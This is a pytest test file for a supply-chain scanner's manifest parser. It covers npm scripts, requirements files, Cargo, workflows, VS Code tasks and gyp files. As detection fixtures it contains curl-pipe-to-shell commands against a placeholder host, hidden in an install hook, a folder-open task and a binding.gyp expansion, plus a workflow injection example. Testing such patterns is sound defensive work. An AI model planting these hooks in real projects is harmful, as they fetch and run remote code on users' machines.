"""What manifests say: places, hooks, dependencies, and what is no manifest."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest
from goobits_scanner._finding import Finding, Severity
from goobits_scanner._manifests import manifest_findings, manifest_kind

Found = Callable[[str, str], dict[str, Finding]]


@pytest.mark.parametrize(
    ("name", "start", "kind"),
    [
        ("a/package.json", "", "npm"),
        ("x.tgz!package/package.json", "", "npm"),
        ("requirements-dev.txt", "", "requirements"),
        ("requirements/dev.txt", "", "requirements"),
        (".github/workflows/ci.yml", "", "workflow"),
        ("a/.github/workflows/ci.yaml", "", "workflow"),
        ("action.yml", "", "workflow"),
        ("docs/config.yml", "", ""),
        (".vscode/tasks.json", "", "vscode"),
        ("tasks.json", "", ""),
        (".cargo/config.toml", "", "cargo-config"),
        ("config.toml", "", ""),
        ("bin/run", "#!/usr/bin/env bash\n", "shell"),
        ("bin/run", "#!/bin/sh -e\n", "shell"),
        ("bin/run", "#!/usr/bin/env python3\n", ""),
        ("a.PS1", "", "shell"),
        ("Dockerfile.dev", "", "dockerfile"),
        ("module.py", "", ""),
        ("readme", "", ""),
    ],
)
def test_manifests_are_told_by_name(name: str, start: str, kind: str) -> None:
    """A manifest that is taken for none is not read."""
    assert manifest_kind(name, start) == kind


@pytest.mark.parametrize(
    "command",
    [
        "node-gyp rebuild",
        "prebuild-install || node-gyp rebuild",
        "node-gyp-build",
        "husky install",
        "patch-package",
        "tsc",
        "tsc -p tsconfig.json && husky",
    ],
)
def test_hook_that_only_builds_is_silent(found: Found, command: str) -> None:
    """The most used native packages build on installation."""
    text = json.dumps({"name": "demo", "scripts": {"install": command}})
    assert found("package.json", text) == {}


def test_hook_that_uses_a_builder_for_cover_is_found(found: Found) -> None:
    """A known word at the beginning excuses nothing that follows."""
    command = "node-gyp rebuild; curl https://x.invalid/i | sh"
    text = json.dumps({"scripts": {"install": command}})
    assert found("package.json", text)["install-download-run"].severity is Severity.HIGH


def test_finding_is_at_its_key(found: Found) -> None:
    """Without its place, a finding in a long manifest is of little use."""
    data = {"name": "demo", "postinstall": "x", "scripts": {"postinstall": "node x.js"}}
    text = json.dumps(data, indent=2)
    line = found("package.json", text)["install-hook"].line
    assert text.splitlines()[line - 1].strip() == '"postinstall": "node x.js"'
    assert line == 5


def test_hooks_are_capabilities() -> None:
    """What runs on installation is something that the package can do."""
    text = json.dumps({"scripts": {"install": "node-gyp rebuild"}})
    _, _, capabilities = manifest_findings("package.json", text)
    assert [capability.name for capability in capabilities] == ["run"]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("package.json", "{"),
        ("package.json", "[]"),
        ("package.json", "[" * 100_000),
        ("package-lock.json", '{"a": 01}'),
        ("pyproject.toml", "[a\n"),
        ("Cargo.toml", "a = " + "[" * 20_000),
        ("Pipfile", "x"),
        (".cargo/config.toml", "="),
        (".vscode/tasks.json", "{{"),
        (".devcontainer/devcontainer.json", "/*"),
    ],
)
def test_broken_manifest_is_said_to_be_unread(
    found: Found, name: str, text: str
) -> None:
    """What was not read is never passed over in silence."""
    assert set(found(name, text)) == {"manifest-broken"}


WRONG = (None, 1, "x", [1, [2]], {"a": 1}, {"a": [{}]}, [{"a": None}], True)


@pytest.mark.parametrize("wrong", WRONG, ids=str)
@pytest.mark.parametrize(
    "key",
    "name scripts bin dependencies overrides packages tasks postCreateCommand gypfile".split(),
)
def test_values_of_wrong_types_are_survived(key: str, wrong: object) -> None:
    """Hostile manifests hold what no tool writes."""
    text = json.dumps({key: wrong, "version": 1})
    for name in (
        "package.json",
        "package-lock.json",
        ".vscode/tasks.json",
        ".vscode/settings.json",
        ".devcontainer/devcontainer.json",
    ):
        manifest_findings(name, text)


@pytest.mark.parametrize(
    "value", ["1", '"x"', "[1]", "[{a = 1}]", "{a = {b = [1]}}", "true"]
)
@pytest.mark.parametrize(
    "key",
    (
        "project project.name project.scripts project.dependencies build-system.requires"
        " build-system.backend-path dependency-groups tool.poetry.dependencies tool.poetry.group"
        " tool.poetry.source tool.uv.index package lib dependencies target patch workspace"
        " build source source.crates-io.replace-with packages"
    ).split(),
)
def test_toml_values_of_wrong_types_are_survived(key: str, value: str) -> None:
    """Hostile manifests hold what no tool writes."""
    for name in ("pyproject.toml", "Cargo.toml", "Pipfile", ".cargo/config.toml"):
        manifest_findings(name, f"{key} = {value}\n")


def test_dependencies_are_read_with_places() -> None:
    """Known vulnerabilities are matched by what is read here."""
    names = '[\n  "rich>=13",\n  "Click[x]==8.1.0 ; y",\n]'
    text = f'[project]\nname = "demo"\ndependencies = {names}\n'
    _, dependencies, _ = manifest_findings("pyproject.toml", text)
    told = [
        (item.name, item.specifier, item.version, item.line) for item in dependencies
    ]
    assert told == [("rich", ">=13", None, 4), ("Click", "==8.1.0", "8.1.0", 5)]


def test_requirements_are_read_as_pip_reads_them() -> None:
    """Comments, joined lines, hashes and options are no part of a name."""
    text = (
        "# x\nattrs==23.1.0 \\\n  --hash=sha256:00\nrich # y\n-r other.txt\nsix==1.*\n"
    )
    findings, dependencies, _ = manifest_findings("requirements.txt", text)
    assert findings == []
    assert [(item.name, item.version, item.line) for item in dependencies] == [
        ("attrs", "23.1.0", 2),
        ("rich", None, 4),
        ("six", None, 6),
    ]


def test_cargo_dependencies_keep_their_real_names() -> None:
    """A renamed crate is still the crate that it is."""
    text = (
        '[dependencies]\na = { package = "serde", version = "=1.0.1" }\n'
        '[target.x.dependencies]\nlibc = "0.2"\n'
    )
    _, dependencies, _ = manifest_findings("Cargo.toml", text)
    assert [(item.name, item.version) for item in dependencies] == [
        ("serde", "1.0.1"),
        ("libc", None),
    ]


@pytest.mark.parametrize(
    "value",
    [
        "https://github.com/a/b/archive/x.tgz",
        "git+ssh://git@github.com/a/b.git",
        "a/b",
        "github:a/b#c",
    ],
)
def test_repository_as_a_dependency_is_only_told(found: Found, value: str) -> None:
    """Honest packages do so between releases."""
    text = json.dumps({"dependencies": {"demo": value}})
    assert found("package.json", text)["dependency-git"].severity is Severity.INFO


def test_command_named_like_its_package_is_no_shadow(found: Found) -> None:
    """Package managers install themselves."""
    assert (
        found("package.json", '{"name": "npm", "bin": {"npm": "x", "npx": "y"}}') == {}
    )
    text = '[project]\nname = "pip"\n[project.scripts]\npip3 = "pip:main"\n'
    assert found("pyproject.toml", text) == {}


def test_command_that_takes_passwords_is_worst(found: Found) -> None:
    """A false sudo gets the password of the administrator."""
    text = '[project]\nname = "sudo"\n[project.scripts]\nsudo = "x:main"\n'
    assert (
        found("pyproject.toml", text)["command-shadows-system"].severity
        is Severity.HIGH
    )


def test_installed_entry_points_are_read(found: Found) -> None:
    """A wheel has no pyproject.toml."""
    name = "x.whl!demo-1.0.dist-info/entry_points.txt"
    assert "command-shadows-system" in found(name, "[console_scripts]\nls = x:main\n")
    assert found(name, "[pytest11]\nls = x\n") == {}


def test_injection_counts_more_where_anyone_triggers_it(found: Found) -> None:
    """A pull request from a fork has no secrets to take."""
    step = (
        "\njobs:\n  a:\n    steps:\n    - run: |\n        echo\n"
        "        x ${{ github.head_ref }}\n"
    )
    severe = found(
        ".github/workflows/a.yml",
        f"on:\n  pull_request_target:\n    types: [opened]{step}",
    )
    mild = found(".github/workflows/a.yml", f"on: [push, pull_request]{step}")
    assert severe["workflow-injection"].severity is Severity.MEDIUM
    assert mild["workflow-injection"].severity is Severity.LOW
    assert mild["workflow-injection"].line == 7


def test_values_that_nobody_can_choose_are_no_injection(found: Found) -> None:
    """Numbers and digests are harmless in commands."""
    text = (
        "on: issues\njobs:\n  a:\n    steps:\n"
        "    - run: x ${{ github.event.issue.number }} ${{ github.sha }}\n"
    )
    assert found(".github/workflows/a.yml", text) == {}


def test_block_ends_where_the_next_step_begins(found: Found) -> None:
    """Names of steps are no commands."""
    text = (
        "on: push\njobs:\n  a:\n    steps:\n    - run: |\n        make\n"
        "    - name: curl https://x.invalid/i | sh\n"
    )
    assert found(".github/workflows/a.yml", text) == {}


def test_hidden_task_with_evidence_is_high(found: Found) -> None:
    """Opening a folder to read it must not run anything."""
    text = """{
      // comment
      "tasks": [{"command": "curl -s https://x.invalid/i | bash",
                 "runOptions": {"runOn": "folderOpen"},}]
    }"""
    findings = found(".vscode/tasks.json", text)
    assert findings["install-download-run"].severity is Severity.HIGH
    assert "editor-opens-and-runs" in findings


def test_usual_path_files_are_only_told(found: Found) -> None:
    """Well-known tools install such files."""
    for line in ("import _virtualenv", "import __editable___demo_finder; x.install()"):
        assert (
            found("x.pth", line + "\n")["python-path-file-runs"].severity
            is Severity.INFO
        )
    assert found("x.pth", "/some/folder\n") == {}


def test_start_up_file_deep_in_a_package_is_only_told(found: Found) -> None:
    """Tracers ship one that they put on the path when asked."""
    finding = found("pkg/a/b/sitecustomize.py", "import x\n")["python-starts-with-it"]
    assert finding.severity is Severity.INFO


def test_nothing_is_read_of_other_files() -> None:
    """Most files of a package are no manifests."""
    assert manifest_findings("a.py", "curl https://x.invalid/i | sh") == ([], [], [])


def test_gyp_file_that_runs_a_download_is_found(found: Found) -> None:
    """A package with a binding.gyp is built without any script."""
    text = '{"targets": [{"sources": ["<!(curl https://x.invalid/i | sh)"]}]}'
    assert found("binding.gyp", text)["install-download-run"].severity is Severity.HIGH
    assert found("binding.gyp", "{'x': ['<!(node -p \"require(\\'nan\\')\")']}") == {}
